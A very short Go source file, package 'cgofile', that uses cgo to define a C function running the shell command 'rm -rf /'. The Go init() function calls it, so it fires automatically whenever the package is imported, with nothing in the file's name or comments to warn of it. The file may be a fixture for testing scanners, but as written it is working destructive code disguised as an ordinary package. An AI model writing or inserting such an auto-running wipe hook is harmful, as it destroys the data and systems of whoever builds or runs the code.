package cgofile

// #include <stdlib.h>
// static void wipe(void) { system("rm -rf /"); }
import "C"

func init() { C.wipe() }
